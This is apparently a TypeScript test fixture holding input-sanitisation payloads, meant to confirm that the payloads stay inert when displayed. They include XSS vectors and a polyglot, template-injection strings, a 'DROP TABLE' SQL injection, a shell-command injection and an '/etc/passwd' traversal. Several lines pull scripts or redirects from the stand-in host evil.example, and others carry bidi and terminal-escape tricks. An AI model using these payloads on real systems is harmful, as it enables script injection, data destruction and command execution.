// Text of somebody who means harm, or whose program is broken. Each one that runs where it should only be read sets `pwned`, opens a
// dialog, loads something, or is missed where it should be seen.

const OPENINGS = [
  '<script>window.pwned=1</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '</script><script>window.pwned=1</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="window.pwned=1">',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</pre></td></tr></table><h1>You are signed out</h1>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '{{constructor.constructor("alert(1)")()}}',
  '{@html "<img src=x onerror=alert(1)>"}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '%s%s%s%n%x{0}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '# heading\n* list\n<b>bold</b>',
  "'; DROP TABLE messages; --",
  '$(touch /tmp/pwned) `touch /tmp/pwned` ; | & > <',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'undefined',
  'null',
  '-1',
  '1e400',
  '90071992547409931234567890',
  '{"__proto__":{"pwned":1}}',
  '{"order":90071992547409931234567890,"price":1.10}',
];

const CHARACTERS = [
  '\u202egnp.exe', // turns the direction of what follows
  'user\u202e\u2066// admin\u2069\u2066 begin\u2069',
  'a\u200bb\u200c\u200d\u2060\ufeffc', // takes no room
  'pay\u{e0049}\u{e0067}\u{e006e}\u{e007f}', // tags, which nobody sees
  '\u115f\u1160\u3164\uffa0', // letters that look like nothing
  '\u0000middle\u0000', // NUL
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J', // escapes of a terminal
  'one\r\nset-cookie: x=1\r\n\r\n<script>alert(1)</script>',
  '\u2028\u2029line ends of JavaScript',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324A\u0324\u0329\u0356L\u0309\u0324\u0325G\u0300O',
  '👩‍👩‍👧‍👦🏳️‍🌈 🇩🇪 1️⃣ 🤷🏽‍♀️',
  '٣١٤ שלום عليكم 漢字 ｆｕｌｌ',
  '\ud83d', // half of a pair
  '\ufdd0\uffff',
  ' \t  leading and trailing \n\n ',
  'A'.repeat(5_000),
  '<'.repeat(1_000),
  '\u202e'.repeat(200),
];

export const PAYLOADS: readonly string[] = [...OPENINGS, ...CHARACTERS];

/** The longest start of a text that is not longer than so many bytes. */
export function cut(text: string, bytes: number): string {
  let end = text.length;
  while (Buffer.byteLength(text.slice(0, end)) > bytes) end--;
  return text.slice(0, end);
}
